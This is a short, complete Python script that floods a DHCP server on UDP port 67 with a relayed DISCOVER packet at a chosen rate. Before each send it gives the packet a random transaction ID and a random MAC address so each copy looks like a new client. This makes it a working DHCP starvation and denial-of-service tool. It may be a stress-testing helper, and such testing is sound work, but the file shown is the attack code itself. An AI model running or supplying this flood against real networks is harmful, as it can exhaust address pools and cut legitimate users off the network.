"""A flood, run as a program of its own: one packet again and again, each time from a box that nobody knows.

Arguments: source and target address, packet in hex (a relayed DISCOVER), packets per second, seconds. Prints how many
it sent.
"""

import os
import socket
import sys
import time

_TICK_S = 0.002
_XID, _MAC = slice(4, 8), slice(28, 34)


def main() -> None:
    """As fast as told, and no faster after a pause."""
    source, target, packet, rate, seconds = sys.argv[1:]
    data, each, sent = bytearray.fromhex(packet), round(int(rate) * _TICK_S), 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.bind((source, 0))
        one.connect((target, 67))
        begun = time.monotonic()
        for tick in range(round(float(seconds) / _TICK_S)):
            for _ in range(each):
                data[_XID], data[_MAC] = os.urandom(4), b"\x02" + os.urandom(5)
                one.send(data)
            sent += each
            time.sleep(max(0.0, begun + (tick + 1) * _TICK_S - time.monotonic()))
    sys.stdout.write(f"{sent}\n")


if __name__ == "__main__":
    main()
